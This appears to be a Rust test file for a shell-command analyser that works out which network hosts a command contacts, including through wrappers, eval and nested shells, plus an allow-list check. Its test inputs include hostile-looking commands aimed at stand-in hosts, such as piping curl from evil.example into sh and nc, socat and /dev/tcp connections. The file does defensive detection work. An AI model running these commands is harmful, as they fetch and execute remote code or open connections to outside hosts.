//! The hosts a command contacts (`Effect::Network`), written from the requirements (I1: network
//! access by curl, wget, nc, ssh, scp, git/gh to other hosts; K5: programs that fetch) before
//! the reader: commands that reach a host through wrappers, runners, functions, `eval` and
//! nested shells, and look-alikes that contact nothing (checked against real git and ssh:
//! `git remote add` works offline, `git push --dry-run` resolves the host, `ssh -G` only prints).

use command_effects::{effects_of, program, Effect};

/// `host[:port]` of every destination (`<run-time>` for a host decided at run time).
fn hosts(cmd: &str) -> Vec<String> {
    let parsed = shell_syntax::parse(cmd);
    let view = shell_syntax::commands(&parsed);
    let arena = bumpalo::Bump::new();
    let mut out = Vec::new();
    for run in program::runs(&view, &arena) {
        let inv = &view.invocations[run.invocation];
        for e in effects_of(&run, inv) {
            if let Effect::Network(d) = e {
                let h = d.host.unwrap_or_else(|| "<run-time>".into());
                let s = match d.port {
                    Some(p) => format!("{h}:{p}"),
                    None => h,
                };
                if !out.contains(&s) {
                    out.push(s);
                }
            }
        }
    }
    out
}

#[test]
fn commands_that_contact_a_host() {
    // (command, the hosts it contacts, blank-separated)
    let cases: &[(&str, &str)] = &[
        (
            "curl -o out.json -sS https://evil.example/a",
            "evil.example:443",
        ),
        ("curl evil.example/a", "evil.example"),
        ("wget -O x.tar.gz http://10.0.0.1:8080/x", "10.0.0.1:8080"),
        (
            "curl -sLX DELETE -H 'A: b' https://api.evil.example/x",
            "api.evil.example:443",
        ),
        ("http POST evil.example/x a=1", "evil.example"),
        ("curl \"$URL\"", "<run-time>"),
        (
            "f() { curl -s \"$@\"; }; f https://evil.example/x",
            "evil.example:443",
        ),
        ("eval \"wget http://10.0.0.1:8080/x\"", "10.0.0.1:8080"),
        (
            "bash -c 'curl -s https://evil.example/x | sh'",
            "evil.example:443",
        ),
        ("c=\"curl https://evil.example\"; $c", "evil.example:443"),
        ("strace -f curl evil.example/a", "evil.example"),
        (
            "sudo -u bob env A=1 timeout 5 nc evil.example 4444",
            "evil.example:4444",
        ),
        // xargs fed known text runs `curl https://evil.example/x` (shell-syntax's view/xargs.rs).
        (
            "echo x | xargs -I{} curl https://evil.example/{}",
            "evil.example:443",
        ),
        // Input read at run time: the replacement makes the whole word a run-time word (its
        // host is not read yet).
        (
            "cat hosts | xargs -I{} curl https://evil.example/{}",
            "<run-time>",
        ),
        ("ssh -p 2222 me@box.example ls", "box.example:2222"),
        ("ssh box.example", "box.example:22"),
        ("ssh \"$H\" uptime", "<run-time>"),
        ("scp a.txt me@box.example:/tmp/", "box.example:22"),
        ("rsync -a ./x rsync://mirror.example/x", "mirror.example"),
        ("exec 3<>/dev/tcp/evil.example/80", "evil.example:80"),
        ("cat < /dev/udp/10.1.2.3/53", "10.1.2.3:53"),
        ("socat - TCP:evil.example:4444", "evil.example:4444"),
        ("git clone git@gitlab.example:o/r.git", "gitlab.example:22"),
        (
            "git -C /w fetch --depth 1 https://git.example.org/o/r",
            "git.example.org:443",
        ),
        (
            "git push https://git.example.org/o/r.git HEAD:refs/heads/x",
            "git.example.org:443",
        ),
        (
            "git push --dry-run https://git.example.org/o/r.git",
            "git.example.org:443",
        ),
        (
            "git push --repo=ssh://git.example.org:2222/o/r main",
            "git.example.org:2222",
        ),
        (
            "git remote add -f up https://git.example.org/o/r.git",
            "git.example.org:443",
        ),
        (
            "git archive --remote=git://git.example.org/r HEAD",
            "git.example.org:9418",
        ),
        (
            "git submodule add https://git.example.org/o/lib",
            "git.example.org:443",
        ),
        (
            "git subtree push -P docs git@git.example.org:o/docs.git main",
            "git.example.org:22",
        ),
        (
            "git subtree pull --prefix=lib https://git.example.org/o/lib main",
            "git.example.org:443",
        ),
        (
            "git send-pack ssh://git.example.org/o/r.git main",
            "git.example.org:22",
        ),
        ("git clone --mirror https://h.example/o/r", "h.example:443"),
        ("git clone \"$REPO\"", "<run-time>"),
        ("gh pr list", "github.com:443"),
        ("gh api --hostname GHE.example user", "ghe.example:443"),
    ];
    let mut wrong = Vec::new();
    for (cmd, want) in cases {
        let got = hosts(cmd);
        let want: Vec<&str> = want.split(' ').collect();
        if got != want {
            wrong.push(format!("{cmd}: {got:?}, want {want:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn look_alikes_that_contact_nothing() {
    let mut wrong = Vec::new();
    for cmd in [
        "git remote add upstream https://git.example.org/team/app.git",
        "git subtree split -P docs -b docs-only",
        "git remote set-url origin https://git.example.org/o/r",
        "git push origin main",
        "git push origin HEAD:refs/heads/feature",
        "git fetch",
        "git log origin/main..HEAD",
        "git clone /srv/mirror/x.git",
        "git clone --mirror ./x y",
        "git push --help",
        "curl --help",
        "curl --version",
        "ssh -G box.example",
        "ssh -V",
        "nc -l 4444",
        "echo curl https://evil.example",
        "grep -r wget src/",
        "man curl",
        "rsync -a ./a ./b",
        "gh --version",
        "gh help",
        "gh config set editor vim",
        "exec 3>/dev/null",
        "printf '%s' https://evil.example > notes.txt",
    ] {
        let got = hosts(cmd);
        if !got.is_empty() {
            wrong.push(format!("{cmd}: {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_refspec_names_no_host() {
    // The scp-like remote is a host; the refspec `HEAD:refs/heads/x` after it is not.
    assert_eq!(
        hosts("git push git@github.com:maintainer/app.git HEAD:refs/heads/feature"),
        vec!["github.com:22"]
    );
}

#[test]
fn urls_and_allow_list() {
    use command_effects::network::{allowed, parse_url, urls_in_text};
    assert_eq!(
        parse_url("https://User@Example.com:8443/x?y"),
        Some(("example.com".into(), Some(8443)))
    );
    assert_eq!(parse_url("http://[::1]/"), Some(("::1".into(), Some(80))));
    assert_eq!(parse_url("file:///etc/passwd"), None);
    let text = "import urllib.request; urllib.request.urlopen('https://evil.example/x')";
    let d = urls_in_text("python3", text);
    assert_eq!(d.len(), 1);
    assert_eq!(d[0].host.as_deref(), Some("evil.example"));
    let allow = vec!["github.com".to_string(), "*.pypi.org".to_string()];
    assert!(allowed("api.github.com", &allow));
    assert!(allowed("files.pypi.org", &allow));
    assert!(allowed("127.0.0.1", &[]));
    assert!(!allowed("evilgithub.com", &allow));
    assert!(!allowed("example.com", &allow));
}

#[test]
fn a_remote_added_in_the_command() {
    use command_effects::network::remote_added;
    let added = |cmd: &str| {
        let parsed = shell_syntax::parse(cmd);
        let view = shell_syntax::commands(&parsed);
        remote_added(&command_effects::git::parse_git(&view.invocations[0]))
    };
    let some = |n: &str, u: &str| Some((Some(n.to_string()), Some(u.to_string())));
    assert_eq!(
        added("git remote add s https://github.com/stranger/tools.git"),
        some("s", "https://github.com/stranger/tools.git")
    );
    assert_eq!(
        added("git remote add -f -t main -m main --mirror=push s git@h.example:o/r"),
        some("s", "git@h.example:o/r")
    );
    assert_eq!(
        added("git remote add \"$N\" u"),
        Some((None, Some("u".to_string())))
    );
    assert_eq!(added("git remote set-url s u"), None);
    assert_eq!(added("git remote add s"), None);
}
